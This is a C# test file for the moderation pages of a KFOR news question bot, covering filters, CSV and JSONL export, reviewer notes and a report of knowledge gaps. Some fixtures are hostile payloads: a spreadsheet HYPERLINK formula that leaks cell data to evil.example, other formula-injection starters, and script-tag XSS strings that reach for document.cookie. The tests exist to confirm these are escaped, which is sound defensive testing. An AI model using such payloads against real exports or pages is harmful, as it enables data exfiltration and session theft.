using System.Net;
using System.Text.RegularExpressions;
using KforBot.Log;
using KforBot.Log.Output;
using KforBot.Log.Storage;
using KforBot.Search;
using Microsoft.Extensions.DependencyInjection;
using Moq;

namespace KforBot.Tests.Moderation;

public sealed partial class ConversationPagesTests
{
    [Theory]
    [InlineData("", "a4 r3 a3 r2 a2")]
    [InlineData("?page=2", "r1 a1")]
    [InlineData("?outcome=refused", "r3 r2 r1")]
    [InlineData("?outcome=answered", "a4 a3 a2 a1")]
    [InlineData("?feedback=down", "a3 r1")]
    [InlineData("?status=flagged", "r2")]
    [InlineData("?status=reviewed", "a2")]
    [InlineData("?from=2025-03-11&to=2025-03-11", "r2 a2")]
    [InlineData("?from=2025-03-12", "a4 r3 a3")]
    [InlineData("?q=WEATHER", "r3 r1")]
    [InlineData("?q=%25", "")]
    [InlineData("?outcome=refused&q=weather&feedback=down", "r1")]
    public async Task List_ShowsTheFilteredConversationsNewestFirst(string query, string expected)
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/" + query);

        Assert.Equal(expected, string.Join(' ', LinkedIds(html)));
    }

    [Fact]
    public async Task List_CountsTodaysQuestionsRefusalsAndFeedback()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/");

        Assert.Contains("<strong>3</strong> questions today", html);
        Assert.Contains("<strong>33%</strong> refused today", html);
        Assert.Contains("<strong>1</strong> voted up · <strong>1</strong> voted down today", html);
        Assert.Contains("<strong>7</strong> match the filters", html);
    }

    [Fact]
    public async Task BadFilterValues_AreIgnoredAndNamed()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/?status=done&from=yesterday");

        Assert.Contains("The filter &#x27;status&#x27; must be one of new, reviewed, flagged", html);
        Assert.Contains("The date &#x27;from&#x27; must be written YYYY-MM-DD", html);
        Assert.Equal(5, LinkedIds(html).Count);
    }

    [Fact]
    public async Task ExportCsv_HoldsTheFilteredEntriesInTheLogsExportFormat()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var response = await client.GetAsync("/export.csv?outcome=refused");
        var lines = (await response.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')).ToList();

        Assert.Equal("text/csv; charset=utf-8", response.Content.Headers.ContentType!.ToString());
        Assert.Contains("attachment", response.Content.Headers.ContentDisposition!.ToString());
        var expected = await ExpectedAsync(site, new InteractionFilter(RefusedOnly: true), EntryCsv.Line);
        Assert.Equal([EntryCsv.Header, .. expected], lines);
        Assert.Equal(3, expected.Count);
    }

    [Fact]
    public async Task ExportCsv_WritesQuestionsAndNotesThatAFormulaCouldStartAsText()
    {
        var at = ModerationSiteHarness.Now.AddHours(-1);
        await using var site = await ModerationSiteHarness.StartAsync(
        [
            Conversations.Refused("f1", at, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"KFOR\")", "leak") with { Note = "@SUM(A1:A9)" },
            Conversations.Refused("f2", at.AddMinutes(1), "+1+1", "sum"),
            Conversations.Refused("f3", at.AddMinutes(2), "-1+1", "sum"),
        ]);
        using var client = await site.SignedInClientAsync();

        var csv = await client.GetStringAsync("/export.csv");

        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"KFOR\"\")\",true,", csv, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
        Assert.Contains(",'+1+1,true,", csv, StringComparison.Ordinal);
        Assert.Contains(",'-1+1,true,", csv, StringComparison.Ordinal);
        Assert.DoesNotMatch("(^|,)[=+@-]", csv.Replace("\"", string.Empty, StringComparison.Ordinal));
    }

    [Fact]
    public async Task ExportJsonl_HoldsTheFilteredEntriesAsLogsListJson()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var text = await client.GetStringAsync("/export.jsonl?feedback=down&page=3");

        var expected = await ExpectedAsync(site, new InteractionFilter(Feedback: Feedback.Down), EntryJson.Serialize);
        Assert.Equal(expected, text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')));
        Assert.Equal(["a3", "r1"], expected.Select(l => System.Text.Json.JsonDocument.Parse(l).RootElement.GetProperty("id").GetString()));
    }

    [Fact]
    public async Task QuestionWithScript_IsShownAsText()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        foreach (var page in new[] { "/", "/conversations/a3", "/?q=script" })
        {
            var html = await client.GetStringAsync(page);
            Assert.Contains("&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; Where is Camp Bondsteel?", html);
            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public async Task Conversation_ShowsWhatTheUserWasShown()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var answered = await client.GetStringAsync("/conversations/a1");
        var refused = await client.GetStringAsync("/conversations/r1");

        Assert.Contains("article <code>us-soldiers</code>, passage #3, score 2.5", answered);
        Assert.Contains($"<blockquote class=\"passage\">{Conversations.SoldiersText}</blockquote>", answered);
        Assert.Contains("<a href=\"https://news.example/us-soldiers\" rel=\"noreferrer\">American soldiers in KFOR</a>", answered);
        Assert.Contains("Example News, 2025-03-01", answered);
        Assert.Contains("<blockquote class=\"passage\">Rutte visited Camp Film City.</blockquote>", answered);
        Assert.Contains("article <code>rutte-visit</code>, passage #0, score 1.25", answered);
        Assert.Contains("<dd>g7</dd>", answered);
        Assert.Contains("None of my 5 articles mentions “weather”.", refused);
        Assert.Contains("<dt>Feedback</dt><dd>voted down</dd>", WebUtility.HtmlDecode(refused));
    }

    [Fact]
    public async Task Conversation_LoggedWithoutPassageTexts_ShowsThoseOfTheIndexVersionThatAnswered()
    {
        var legacy = Conversations.Answered("old", ModerationSiteHarness.Now.AddHours(-1), "How many US soldiers are in Kosovo?") with
        {
            Passages = [new LoggedPassage("us-soldiers", 3, 2.5)],
        };
        await using var site = await ModerationSiteHarness.StartAsync([legacy], configure: s => s.AddSingleton(IndexOf("g7")));
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/conversations/old");

        Assert.Contains("<blockquote class=\"passage\">Passage 3 of us-soldiers as build g7 holds it.</blockquote>", html);
        Assert.Contains(">American soldiers in KFOR</span>", html);
    }

    [Fact]
    public async Task Conversation_LoggedWithoutPassageTexts_SaysSoOnceItsIndexVersionIsGone_RatherThanShowAnotherText()
    {
        var legacy = Conversations.Answered("old", ModerationSiteHarness.Now.AddHours(-1), "How many US soldiers are in Kosovo?") with
        {
            Passages = [new LoggedPassage("us-soldiers", 3, 2.5)],
        };
        await using var site = await ModerationSiteHarness.StartAsync([legacy], configure: s => s.AddSingleton(IndexOf("g8")));
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/conversations/old");

        Assert.DoesNotContain("as build g8 holds it", html);
        Assert.Contains("index version g7 that answered is no longer in use: the text the user saw cannot be shown.", html);
        Assert.Contains("article <code>us-soldiers</code>, passage #3, score 2.5", html);
    }

    [Fact]
    public async Task Conversation_RefusalThatShowedPassages_ListsThemAfterTheReasonInFull()
    {
        var reason = "None of my 5 articles says how many French soldiers serve in KFOR. These passages come closest; they do not answer it.";
        var refused = Conversations.Refused("rel", ModerationSiteHarness.Now.AddHours(-1), "How many French soldiers are in KFOR?", "French") with
        {
            Reason = reason,
            Passages = Conversations.Answered("x", ModerationSiteHarness.Now, "x").Passages,
        };
        await using var site = await ModerationSiteHarness.StartAsync([refused]);
        using var client = await site.SignedInClientAsync();

        var html = WebUtility.HtmlDecode(await client.GetStringAsync("/conversations/rel"));

        Assert.Contains($"<blockquote class=\"reason\">{reason}</blockquote>", html);
        Assert.Contains("Shown with the refusal, 2 related passage(s):", html);
        Assert.Contains($"<blockquote class=\"passage\">{Conversations.SoldiersText}</blockquote>", html);
    }

    /// <summary>An index whose build <paramref name="buildId"/> holds passages 0 to 4 of "us-soldiers".</summary>
    private static IPassageIndex IndexOf(string buildId)
    {
        var reader = new Mock<IPassageIndexReader>();
        reader.Setup(r => r.Summary).Returns(new IndexSummary(buildId, "fingerprint", ModerationSiteHarness.Now, 1, 5, 40));
        reader.Setup(r => r.Articles).Returns(new Dictionary<string, IndexedArticle>
        {
            ["us-soldiers"] = new("us-soldiers", "American soldiers in KFOR", "Example News", null, null, "en"),
        });
        reader.Setup(r => r.Passage(It.IsAny<int>())).Returns((int i) => new IndexedPassage(i, "us-soldiers", i, null, $"Passage {i} of us-soldiers as build {buildId} holds it."));
        var index = new Mock<IPassageIndex>();
        index.Setup(i => i.OpenReaderAsync(It.IsAny<CancellationToken>())).ReturnsAsync(reader.Object);
        return index.Object;
    }

    [Fact]
    public async Task Review_SetsStatusAndNote_AndTheListShowsIt()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();
        var token = ModerationSiteHarness.FormToken(await client.GetStringAsync("/conversations/r3?outcome=refused"));

        var response = await client.PostAsync("/conversations/r3?outcome=refused", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["status"] = "reviewed",
            ["note"] = "  Needs an article on weather.  ",
            ["__RequestVerificationToken"] = token,
        }));

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.Equal("/conversations/r3?outcome=refused&saved=reviewed", response.Headers.Location!.OriginalString);
        var entry = await site.Get<InteractionQueries>().FindAsync("r3", CancellationToken.None);
        Assert.Equal((ModerationStatus.Reviewed, "Needs an article on weather."), (entry!.Status, entry.Note));
        Assert.Equal(["r3"], LinkedIds(await client.GetStringAsync("/?status=reviewed&outcome=refused")));

        var keep = await client.PostAsync("/conversations/r3", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["status"] = "keep",
            ["note"] = "",
            ["__RequestVerificationToken"] = token,
        }));
        Assert.Equal(HttpStatusCode.Redirect, keep.StatusCode);
        entry = await site.Get<InteractionQueries>().FindAsync("r3", CancellationToken.None);
        Assert.Equal((ModerationStatus.Reviewed, (string?)null), (entry!.Status, entry.Note));
    }

    [Fact]
    public async Task Review_CanSetTheStatusBackToNew_AndSaveNoteSaysNoteSaved()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();
        var page = await client.GetStringAsync("/conversations/r2");
        Assert.Contains("value=\"new\"", page);
        var token = ModerationSiteHarness.FormToken(page);

        var back = await client.PostAsync("/conversations/r2", Form(token, "new", "Not a gap after all."));
        var keep = await client.PostAsync("/conversations/r2", Form(token, "keep", "Asked twice."));

        Assert.Equal("/conversations/r2?saved=new", back.Headers.Location!.OriginalString);
        Assert.Equal("/conversations/r2?saved=note", keep.Headers.Location!.OriginalString);
        var entry = await site.Get<InteractionQueries>().FindAsync("r2", CancellationToken.None);
        Assert.Equal((ModerationStatus.New, "Asked twice."), (entry!.Status, entry.Note));
        Assert.Contains("<p class=\"notice\" role=\"status\">Set back to new.</p>", await client.GetStringAsync("/conversations/r2?saved=new"));
        var saved = await client.GetStringAsync("/conversations/r2?saved=note");
        Assert.Contains("<p class=\"notice\" role=\"status\">Note saved.</p>", saved);
        Assert.DoesNotContain("value=\"new\"", saved);
    }

    [Theory]
    [InlineData("Your password expired, call 555-0100")]
    [InlineData("reviewed.")]
    [InlineData("")]
    public async Task SavedNotice_ComesFromAFixedSet_NeverFromTheQueryString(string saved)
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/conversations/r1?saved=" + Uri.EscapeDataString(saved));

        Assert.DoesNotContain("class=\"notice\"", html);
        Assert.DoesNotContain("555-0100", html);
    }

    private static FormUrlEncodedContent Form(string token, string status, string note) => new(new Dictionary<string, string>
    {
        ["status"] = status,
        ["note"] = note,
        ["__RequestVerificationToken"] = token,
    });

    [Fact]
    public async Task NextUnreviewed_GoesToTheNewestNewConversationOfTheFilter()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var next = await client.GetAsync("/conversations/next?outcome=refused&status=flagged");
        var none = await client.GetStringAsync("/conversations/next?q=football");

        Assert.Equal("/conversations/r3?outcome=refused&status=flagged", next.Headers.Location!.OriginalString);
        Assert.Contains("No unreviewed conversation matches these filters.", none);
    }

    [Fact]
    public async Task Gaps_GroupRefusedQuestionsByUncoveredWords()
    {
        await using var site = await ModerationSiteHarness.StartAsync(Conversations.Sample());
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/gaps");

        Assert.Matches(@"(?s)<td class=""count"">2</td>\s*<td class=""term"">weather</td>.*<td class=""count"">1</td>\s*<td class=""term"">football</td>", html);
        Assert.Contains("<li>Is the weather good for KFOR patrols?</li>", html);
    }

    [Fact]
    public async Task Gaps_KeepNamesWhole_AndListNoNoise()
    {
        var at = ModerationSiteHarness.Now.AddHours(-1);
        await using var site = await ModerationSiteHarness.StartAsync(
        [
            Conversations.Refused("k1", at, "What did Albin Kurti say?", "Albin") with { UncoveredTerms = ["Albin", "Kurti"] },
            Conversations.Refused("s1", at.AddMinutes(1), "<script>document.cookie</script>", "script") with { UncoveredTerms = ["script", "document.cookie"] },
            Conversations.Refused("d1", at.AddMinutes(2), "1", "1"),
        ]);
        using var client = await site.SignedInClientAsync();

        var html = await client.GetStringAsync("/gaps");

        Assert.Equal(["Albin Kurti"], Regex.Matches(html, @"<td class=""term"">([^<]*)</td>").Select(m => m.Groups[1].Value));
    }

    private static List<string> LinkedIds(string html) => [.. ConversationLink().Matches(html).Select(m => m.Groups[1].Value)];

    private static async Task<List<string>> ExpectedAsync(ModerationSiteHarness site, InteractionFilter filter, Func<InteractionEntry, string> line)
    {
        var lines = new List<string>();
        await foreach (var entry in site.Get<InteractionQueries>().ListAsync(filter, CancellationToken.None))
        {
            lines.Add(line(entry));
        }

        return lines;
    }

    [GeneratedRegex(@"<td class=""question""><a href=""/conversations/([^""?]+)")]
    private static partial Regex ConversationLink();
}
